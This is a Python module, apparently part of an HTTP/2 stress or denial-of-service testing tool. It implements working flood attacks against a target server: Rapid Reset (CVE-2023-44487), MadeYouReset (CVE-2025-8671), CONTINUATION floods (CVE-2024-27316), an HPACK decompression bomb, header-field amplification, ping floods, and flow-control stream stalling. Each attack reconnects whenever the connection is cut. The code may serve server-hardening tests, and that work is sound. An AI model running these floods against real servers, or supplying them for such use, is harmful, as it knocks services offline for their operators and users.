"""HTTP/2 clients that send what costs them little: all they can, again on a new connection whenever they are cut."""

import collections
import contextlib
import struct
import time

from . import h2
from .h2 import Connection, frame

PAUSE = 0.01  # before it connects again
BATCH_BYTES = 64 * 1024
FAREWELL_WITHIN = 1  # how long it is listened to when the flood is over
END = h2.END_STREAM | h2.END_HEADERS


def flood(target, batches, first=None, reads=True):
    """Sends what `batches` gives until the time is up; what became of its connections."""
    fates, sent, until = collections.Counter(), 0, time.monotonic() + target.seconds
    while time.monotonic() < until:
        try:
            connection = Connection(target, first)
        except OSError as error:
            fates[f"no connection: {type(error).__name__}"] += 1
            time.sleep(PAUSE)
            continue
        with connection:
            for batch in batches(target):
                if not connection.send(batch, reads, until):
                    break
            connection.hear()
            if not connection.cut:
                connection.wait(FAREWELL_WITHIN, lambda: connection.cut)
            if connection.goaway is not None:
                connection.wait(FAREWELL_WITHIN)
            fates[connection.fate()] += 1
            sent += connection.sent
        time.sleep(PAUSE)
    return f"{told(fates)}; {sent / 1e6:,.0f} MB sent"


def told(fates):
    return ", ".join(f"{fate} ×{count}" for fate, count in fates.most_common())


def without_end(one):
    """The same again and again, in batches."""
    batch = one * max(1, BATCH_BYTES // len(one))
    while True:
        yield batch


def per_stream(frames, path="/", post=False, most=1_000_000):
    """For each new stream what `frames(stream, fields)` gives, in batches."""

    def batches(target):
        fields = h2.fields(target.authority, path, post)
        batch = b""
        for stream in range(1, 2 * most, 2):
            batch += frames(stream, fields)
            if len(batch) >= BATCH_BYTES // 4:
                yield batch
                batch = b""

    return batches


def request(stream, fields, flags=END):
    return frame(h2.HEADERS, flags, stream, fields)


# --- Resets ------------------------------------------------------------------------------------


def rapid_reset(target):
    """CVE-2023-44487: each request is taken back at once."""
    return flood(target, per_stream(lambda stream, fields: request(stream, fields) + h2.reset(stream)))


def made_you_reset(wrong, post=False):
    """CVE-2025-8671: each request is followed by a frame that makes the server take it back."""

    def attack(target):
        flags = h2.END_HEADERS if post else END
        return flood(
            target, per_stream(lambda stream, fields: request(stream, fields, flags) + wrong(stream), "/wait", post)
        )

    return attack


def window_update_zero(stream):
    return h2.window_update(stream, 0)


def window_overflow(stream):
    return h2.window_update(stream, h2.WINDOW_MAX)


def data_behind_the_end(stream):
    return frame(h2.DATA, 0, stream, b"x")


def headers_behind_the_end(stream):
    return frame(h2.HEADERS, END, stream, b"\x82")


def priority_of_four_bytes(stream):
    return frame(h2.PRIORITY, 0, stream, bytes(4))


def priority_on_itself(stream):
    return frame(h2.PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


def malformed(target):
    """Requests that are stream errors by themselves (RFC 9113 §8.1.1): an upper-case name."""
    bad = h2.literal(b"BAD", b"1")
    return flood(target, per_stream(lambda stream, fields: request(stream, fields + bad)))


def wrong_length(target):
    """Bodies that are not as long as they say (RFC 9113 §8.1.1)."""
    length = h2.literal(b"content-length", b"5")
    return flood(
        target,
        per_stream(
            lambda stream, fields: (
                request(stream, fields + length, h2.END_HEADERS) + frame(h2.DATA, h2.END_STREAM, stream, b"x")
            ),
            "/wait",
            post=True,
        ),
    )


# --- Frames without end ------------------------------------------------------------------------


def continuations(piece):
    """CVE-2024-27316 and its like: a header section that never ends."""

    def batches(target):
        yield frame(h2.HEADERS, h2.END_STREAM, 1, h2.fields(target.authority))
        yield from without_end(frame(h2.CONTINUATION, 0, 1, piece))

    return lambda target: flood(target, batches)


def frames(one, reads=True, first=b""):
    def batches(target):
        yield first
        yield from without_end(one)

    return lambda target: flood(target, batches, reads=reads)


def on_a_stream(one, path="/wait"):
    """Frames on an upload that is never done."""

    def batches(target):
        yield request(1, h2.fields(target.authority, path, post=True), h2.END_HEADERS)
        yield from without_end(one)

    return lambda target: flood(target, batches)


def requests_not_read(target):
    """Requests, and nothing taken of their answers."""
    return flood(target, per_stream(request), reads=False)


def pings_and_requests(target):
    """Pings between requests that are answered, as gRPC sends them; only many more."""
    ping = frame(h2.PING, payload=bytes(8))
    return flood(target, per_stream(lambda stream, fields: request(stream, fields) + ping * 100))


# --- HPACK -------------------------------------------------------------------------------------


def hpack_bomb(target):
    """A field of 4,000 bytes kept in the table, and references to it: one byte each (RFC 7541 §7.3)."""

    def batches(target):
        fields = h2.fields(target.authority)
        yield request(1, fields + h2.literal(b"x-bomb", b"b" * 4000, indexed=True))
        bomb = fields + b"\xbe" * (16_000 - len(fields))
        for stream in range(3, 1_000_000, 2):
            yield request(stream, bomb)

    return flood(target, batches)


def cookie_crumbs(target):
    """A field of no bytes, once a byte: nothing in the table, much per field in a list of fields."""

    def batches(target):
        fields = h2.fields(target.authority)
        # `cookie` with no value, static entry 32.
        crumbs = fields + b"\xa0" * (16_000 - len(fields))
        for stream in range(1, 1_000_000, 2):
            yield request(stream, crumbs)

    return flood(target, batches)


# --- Streams that are not taken ----------------------------------------------------------------


def stalled_streams(window):
    """2,000 answers of 1 MB, on 20 connections, of which the client takes nothing.

    Either their windows are shut, or they are open and the socket is not read.
    """

    def attack(target, connections=20, streams=100, length=1_000_000):
        first = h2.settings(initial_window_size=window) + h2.window_update(0, h2.WINDOW_MAX - h2.WINDOW)
        with contextlib.ExitStack() as held:
            stalled = []
            for _ in range(connections):
                one = held.enter_context(Connection(target, first, small=window > 0))
                fields = h2.fields(target.authority, f"/{length}")
                asked = b"".join(request(stream, fields) for stream in range(1, 2 * streams, 2))
                one.send(asked, reads=window == 0)
                stalled.append(one)
            until = time.monotonic() + target.seconds
            while time.monotonic() < until:
                time.sleep(0.1)
                for one in stalled if window == 0 else ():
                    one.hear()
            return told(collections.Counter(one.fate() for one in stalled))

    return attack


def slow_streams(target, connections=20, streams=20, step=1000):
    """Answers of 1 MB whose windows open by a little at a time."""
    with contextlib.ExitStack() as held:
        slow = []
        for _ in range(connections):
            one = held.enter_context(Connection(target, h2.settings(initial_window_size=step)))
            fields = h2.fields(target.authority, "/1000000")
            one.send(b"".join(request(stream, fields) for stream in range(1, 2 * streams, 2)))
            slow.append(one)
        until = time.monotonic() + target.seconds
        while time.monotonic() < until:
            time.sleep(0.2)
            for one in slow:
                updates = b"".join(h2.window_update(stream, step) for stream in range(1, 2 * streams, 2))
                one.send(updates + h2.window_update(0, step * streams))
        return told(collections.Counter(one.fate() for one in slow))
